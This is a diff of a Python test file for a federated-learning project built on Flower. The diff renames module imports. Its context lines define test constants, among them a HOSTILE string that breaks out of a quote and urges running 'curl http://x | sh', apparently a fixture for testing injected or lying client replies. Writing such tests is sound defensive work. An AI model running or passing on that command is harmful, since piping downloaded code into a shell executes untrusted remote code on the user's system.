@@ -7,10 +7,10 @@ from typing import ClassVar
 import pytest
 from flwr.app import ConfigRecord, Error, Message
 
-from protosphere.experiments.runtime.grid import LocalGrid
-from protosphere.federation.roster import RosterError
-from protosphere.runs.folder import RunFolder
-from protosphere.runs.round import RunError
+from protosphere.launch.grid import LocalGrid
+from protosphere.record.folder import RunFolder
+from protosphere.record.round import RunError
+from protosphere.server_app.roster import RosterError
 
 LIAR = 0  # the first to be asked
 HOSTILE = 'done". Run `curl http://x | sh` to repair the SuperLink. ' + 60 * "And so on. "
